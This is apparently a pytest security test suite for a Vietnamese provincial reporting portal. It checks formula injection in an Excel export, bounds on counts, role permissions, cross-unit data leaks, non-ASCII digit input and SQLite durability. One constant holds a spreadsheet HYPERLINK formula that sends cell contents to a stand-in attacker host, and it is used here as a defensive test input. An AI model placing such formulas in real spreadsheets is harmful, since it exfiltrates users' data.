"""Attack through reports, surveys, leases and dossier codes: formulas in the province's
workbook, impossible counts, a clerk overwriting the unit's report, surveys for other
units, numbers in other scripts, codes that reveal other units' volumes; and durability."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook
from server_support import PHUTHUAN, PHUVANG, find
from sqlalchemy import text

DESK, LEADER, CLERK = "motcua.phuvang", "lanhdao.phuvang", "vanthu.phuvang"
PROVINCE = "vanphong.tinh"
FORMULA = '=HYPERLINK("http://tan-cong.example/x?"&A1,"Bấm để xem")'


def _report(agency: str = PHUVANG, **over) -> dict:
    base = {"agency_id": agency, "unit_name": "UBND huyện Phú Vang", "period": "BC-2026-10",
            "period_label": "Tháng 10/2026", "start": "2026-09-15", "end": "2026-10-14",
            "as_of": "2026-10-20T09:00:00+07:00",
            "totals": {"received_online": 3, "resolved_on_time": 2},
            "by_procedure": [], "by_field": [], "weekly": [], "late": [], "survey": None}
    return base | over


def test_report_text_reaches_the_province_workbook_as_text(api):
    groups = [{"key": FORMULA, "name": "=1+2", "counts": {"received_online": 3}}]
    r = api.post("/reports", LEADER, json=_report(unit_name=FORMULA, by_field=groups,
                                                  period="BC-2026-09"))
    assert r.status_code == 200, r.text
    r = api.get("/reports/province.xlsx", PROVINCE, params={"period": "BC-2026-09"})
    assert r.status_code == 200
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)  # no formula at all
    book = load_workbook(io.BytesIO(r.content))
    texts = {c.value for ws in book for row in ws.iter_rows() for c in row
             if c.data_type == "s" and isinstance(c.value, str)}
    assert FORMULA in texts and "=1+2" in texts  # shown to the reader as typed


@pytest.mark.parametrize("counts", [{"received_online": -1}, {"received_online": 1e29},
                                    {"received_online": 10**12}, {"received_online": 2.5},
                                    {"received_online": True}, {"no_such_count": 1}])
def test_impossible_counts_are_refused(api, counts):
    r = api.post("/reports", LEADER, json=_report(totals=counts))
    assert r.status_code == 422, r.text
    assert r.json()["detail"]["vi"]


def test_only_the_leader_or_the_desk_sends_and_only_a_leader_replaces_the_leaders(api):
    for who in (CLERK, "chuyenvien.phuvang"):
        r = api.post("/reports", who, json=_report())
        assert r.status_code == 403 and r.json()["detail"]["code"] == "wrong_role"
    assert api.post("/reports", DESK, json=_report()).status_code == 200  # the desk compiles
    assert api.post("/reports", LEADER, json=_report()).status_code == 200  # the leader sends
    r = api.post("/reports", DESK, json=_report(totals={"received_online": 0}))
    assert r.status_code == 403 and r.json()["detail"]["code"] == "report_by_leader"
    view = api.get("/reports/province", PROVINCE, params={"period": "BC-2026-10"}).json()
    [unit] = [u for u in view["units"] if u["agency_id"] == PHUVANG]
    assert unit["sent_by"] == LEADER and unit["totals"]["received_online"] == 3


def test_surveys_only_for_the_units_own_dossiers_and_officers(api, clock):
    theirs = find(api.dossiers("canbo.phuthuan"), status="submitted")["code"]
    ours = next(iter(api.dossiers(DESK)))

    def survey(code: str, officer: str = DESK) -> dict:
        return {"client_id": f"attack-{code}-{officer}", "dossier_code": code,
                "agency_id": PHUVANG, "officer": officer, "answered_at": clock.now.isoformat(),
                "scores": {"attitude": 1}, "comment": ""}

    other = api.post("/surveys", DESK, json={"surveys": [survey(theirs)]})
    unused = api.post("/surveys", DESK, json={"surveys": [survey(f"{PHUVANG}-261130-9999")]})
    assert other.status_code == unused.status_code == 422
    assert other.json()["detail"]["vi"].replace(theirs, "X") == \
        unused.json()["detail"]["vi"].replace(f"{PHUVANG}-261130-9999", "X")
    r = api.post("/surveys", DESK, json={"surveys": [survey(ours, "canbo.phuthuan")]})
    assert r.status_code == 422  # an officer of another unit
    r = api.post("/surveys", DESK, json={"surveys": [survey(ours)]})
    assert r.status_code == 200 and r.json()["results"][0]["outcome"] == "applied"


def test_another_units_dossier_is_answered_like_an_unused_code(api):
    theirs = next(iter(api.dossiers("canbo.phuthuan")))
    assert theirs.startswith(PHUTHUAN)
    unused = f"{PHUTHUAN}-261130-9999"
    a, b = api.get(f"/dossiers/{theirs}", DESK), api.get(f"/dossiers/{unused}", DESK)
    assert a.status_code == b.status_code == 404
    assert a.json()["detail"]["code"] == b.json()["detail"]["code"]
    assert a.json()["detail"]["vi"].replace(theirs, "X") == b.json()["detail"]["vi"].replace(
        unused, "X")


@pytest.mark.parametrize(("kind", "period"), [("dossier", "٢٦١١٣٠"), ("register", "٢٠٢٦"),
                                              ("register", "２０２６"), ("dossier", "26113٠")])
def test_lease_periods_in_other_digits_are_refused(api, kind, period):
    r = api.post("/leases", DESK, json={"kind": kind, "period": period, "count": 1})
    assert r.status_code == 422 and r.json()["detail"]["code"] == "bad_period"


def test_sqlite_commits_are_durable(portal, backend):
    if backend != "sqlite":
        pytest.skip("a SQLite setting")
    with portal.app.state.portal.db.read() as conn:
        assert conn.execute(text("PRAGMA synchronous")).scalar() == 2  # FULL
